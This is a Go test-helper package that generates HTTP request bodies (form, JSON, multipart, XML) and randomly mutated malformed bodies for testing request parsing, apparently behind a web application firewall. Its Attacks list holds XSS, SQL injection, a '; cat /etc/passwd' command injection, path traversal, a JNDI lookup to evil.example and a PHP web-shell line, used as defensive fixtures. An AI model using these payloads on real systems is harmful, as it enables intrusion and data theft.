// Package bodytest makes bodies of requests for tests: well-formed ones with an attack among harmless fields, and hostile ones that
// are meant to have a parser fail, run away or read something else than another one does.
package bodytest

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"encoding/xml"
	"math/rand/v2"
	"mime/multipart"
	"net/url"
	"strings"
)

// Body is a body with the value of its Content-Type.
type Body struct {
	Type string
	Text string
}

// Field is a name and a value.
type Field struct{ Name, Value string }

// Kinds are those that Document can write.
var Kinds = []string{"form", "JSON", "nested JSON", "multipart", "XML", "XML attributes"}

// Document writes fields as a client does.
func Document(kind string, fields []Field) Body {
	var b bytes.Buffer
	switch kind {
	case "form":
		for i, f := range fields {
			if i > 0 {
				b.WriteByte('&')
			}
			b.WriteString(url.QueryEscape(f.Name) + "=" + url.QueryEscape(f.Value))
		}
		return Body{"application/x-www-form-urlencoded", b.String()}
	case "JSON":
		for i, f := range fields {
			b.WriteString([]string{"{", ","}[min(i, 1)])
			writeJSON(&b, f.Name)
			b.WriteByte(':')
			writeJSON(&b, f.Value)
		}
		return Body{"application/json", b.String() + "}"}
	case "nested JSON":
		for i, f := range fields {
			b.WriteString([]string{`{"list":[`, ","}[min(i, 1)] + `{"name":`)
			writeJSON(&b, f.Name)
			b.WriteString(`,"values":[1,`)
			writeJSON(&b, f.Value)
			b.WriteString("]}")
		}
		return Body{"application/vnd.api+json; charset=utf-8", b.String() + "]}"}
	case "multipart":
		w := multipart.NewWriter(&b)
		_ = w.SetBoundary("----WebKitFormBoundaryABCDEFGHIJKLMNOP")
		for _, f := range fields { // to memory, which does not fail
			part, _ := w.CreateFormField(f.Name)
			_, _ = part.Write([]byte(f.Value))
		}
		_ = w.Close()
		return Body{w.FormDataContentType(), b.String()}
	case "XML", "XML attributes":
		b.WriteString("<fields>")
		for _, f := range fields {
			if kind == "XML" {
				b.WriteString("<field>")
				_ = xml.EscapeText(&b, []byte(f.Value))
				b.WriteString("</field>")
				continue
			}
			b.WriteString(`<field value="`)
			_ = xml.EscapeText(&b, []byte(f.Value))
			b.WriteString(`"/>`)
		}
		return Body{"application/xml", b.String() + "</fields>"}
	}
	panic("bodytest: there is no kind " + kind)
}

func writeJSON(b *bytes.Buffer, s string) {
	e := json.NewEncoder(b)
	e.SetEscapeHTML(false)
	_ = e.Encode(s) // with a newline, which is a blank
}

// Attacks are values that the Core Rule Set blocks at its first paranoia level, wherever they are.
var Attacks = []string{
	"<script>alert(1)</script>",
	"1' OR 1=1 UNION SELECT password FROM users--",
	"; cat /etc/passwd",
	"../../../../etc/passwd",
	"${jndi:ldap://evil.example/a}",
	"<?php system($_GET['c']); ?>",
}

// types are what a hostile body says it is.
var types = []string{
	"application/x-www-form-urlencoded", "application/json", "multipart/form-data; boundary=B", "text/xml", "application/xml",
	"Application/JSON ; charset=UTF-8", "application/json; charset=utf-16", "text/xml; charset=utf-7", "multipart/form-data",
	"multipart/form-data; boundary=\"B\"", "multipart/form-data; boundary=A; boundary=B", "multipart/form-data; type=\"boundary=A\"; boundary=B",
	"multipart/mixed; boundary=B", "MULTIPART/FORM-DATA; BOUNDARY=B", "application/problem+json", "application/soap+xml", "text/plain",
	"application/x-www-form-urlencoded; charset=ibm500", "application/json, text/xml", "application/octet-stream", "", "x", "application/grpc",
}

// Hostile makes a body that means no good.
func Hostile(r *rand.Rand) Body {
	b := Body{Type: types[r.IntN(len(types))]}
	if r.IntN(4) > 0 { // of the type that it says it is
		b.Type = types[r.IntN(5)]
	}
	b.Text = text(r, b.Type)
	for range r.IntN(3) {
		b.Text = mutate(r, b.Text)
	}
	return b
}

// text is a body of a type that may be well-formed.
func text(r *rand.Rand, contentType string) string {
	lower := strings.ToLower(contentType)
	switch {
	case strings.Contains(lower, "json"):
		return jsonText(r, 4)
	case strings.Contains(lower, "xml"):
		return xmlText(r)
	case strings.Contains(lower, "multipart"):
		return multipartText(r)
	}
	n := count(r)
	if n > 30 {
		return strings.Repeat(word(r)+"="+word(r)+"&", n)
	}
	var b strings.Builder
	for range n {
		b.WriteString(word(r) + "=" + url.QueryEscape(value(r)) + []string{"&", "&", "&&", ";", ""}[r.IntN(5)])
	}
	return b.String()
}

// count is how many of something there are: few, or very many.
func count(r *rand.Rand) int {
	if r.IntN(12) == 0 {
		return []int{999, 1000, 1001, 1500, 5000}[r.IntN(5)]
	}
	return r.IntN(6)
}

func word(r *rand.Rand) string {
	return []string{"a", "A", "b", "q", "", "json", "json.a", "a[]", "__proto__", "a.b", "%61", "ä", "\x00", "id"}[r.IntN(14)]
}

// value is harmless, odd or an attack.
func value(r *rand.Rand) string {
	switch r.IntN(6) {
	case 0:
		return Attacks[r.IntN(len(Attacks))]
	case 1:
		b := make([]byte, r.IntN(20))
		for i := range b {
			b[i] = byte(r.Uint32())
		}
		return string(b)
	case 2:
		return strings.Repeat([]string{"a", "'", "<", "(", "\\", "../", "%", "&#", "\u2028"}[r.IntN(9)], r.IntN(300))
	}
	return []string{"shoes", "42", "", "O'Neill", "a < b", "%2527", "+ADw-script+AD4-", "&lt;script&gt;", "\ufeff"}[r.IntN(9)]
}

func jsonText(r *rand.Rand, depth int) string {
	switch n := r.IntN(10); {
	case n == 0 && depth == 4:
		open := []string{"[", `{"a":`, `[{"b":`}[r.IntN(3)]
		return strings.Repeat(open, []int{10, 1023, 1024, 1025, 20000}[r.IntN(5)])
	case n < 4 && depth > 0:
		var b strings.Builder
		for range count(r) {
			b.WriteString("," + jsonText(r, depth-2))
		}
		return "[" + strings.TrimPrefix(b.String(), ",") + "]"
	case n < 8 && depth > 0:
		var b strings.Builder
		for range count(r) {
			name, _ := json.Marshal(word(r))
			b.WriteString("," + string(name) + ":" + jsonText(r, depth-2))
		}
		return "{" + strings.TrimPrefix(b.String(), ",") + "}"
	case n == 8:
		return []string{"1", "-0.5e9", "null", "true", "NaN", "0x1", "1e999", "01", "tru"}[r.IntN(9)]
	}
	text, _ := json.Marshal(value(r))
	return string(text)
}

func xmlText(r *rand.Rand) string {
	var b strings.Builder
	b.WriteString([]string{"", "", `<?xml version="1.0"?>`, `<?xml version="1.0" encoding="utf-8"?>`, `<?xml version="1.0" encoding = "utf-16"?>`,
		"<!DOCTYPE a>", `<!DOCTYPE a [<!ENTITY x "y">]>`}[r.IntN(7)])
	b.WriteString("<a>")
	for range count(r) {
		b.WriteString([]string{"<b>", "</b>", "<b/>", `<b c="`, `">`, "<!--", "-->", "<![CDATA[", "]]>", "<?x?>", "&lt;", "&x;", "<br>"}[r.IntN(13)])
		var escaped bytes.Buffer
		_ = xml.EscapeText(&escaped, []byte(value(r)))
		b.Write(escaped.Bytes())
	}
	return b.String() + "</a>"
}

func multipartText(r *rand.Rand) string {
	newline := "\r\n"
	if r.IntN(8) == 0 {
		newline = "\n"
	}
	var b strings.Builder
	for range count(r) {
		b.WriteString("--B" + newline + "Content-Disposition: form-data; name=\"" + word(r) + "\"")
		b.WriteString([]string{"", "", "; filename=a.txt", "; filename*=utf-8''a", "; filename=\"\"", ";x='; filename=a;y='", "; name=b"}[r.IntN(7)])
		b.WriteString([]string{newline, newline, newline + "Content-Type: text/plain" + newline, "\n", newline + " x" + newline,
			newline + "Content-Transfer-Encoding: quoted-printable" + newline}[r.IntN(6)])
		b.WriteString(newline + value(r) + newline)
	}
	return b.String() + []string{"--B--" + newline, "--B--", "--B", "", "--B--" + newline + "x"}[r.IntN(5)]
}

// mutate breaks a text somewhere.
func mutate(r *rand.Rand, s string) string {
	i := r.IntN(len(s) + 1)
	switch r.IntN(9) {
	case 0:
		return s[:i]
	case 1:
		return s[i:]
	case 2:
		return "\ufeff" + s
	case 3:
		var wide []byte
		for _, c := range []byte(s) {
			wide = append(wide, c, 0)
		}
		return string(wide)
	case 4:
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		_, _ = w.Write([]byte(s))
		_ = w.Close()
		return b.String()
	case 5:
		return s + s
	case 6:
		return s[:i] + string(rune(r.IntN(300))) + s[i:]
	}
	return s
}
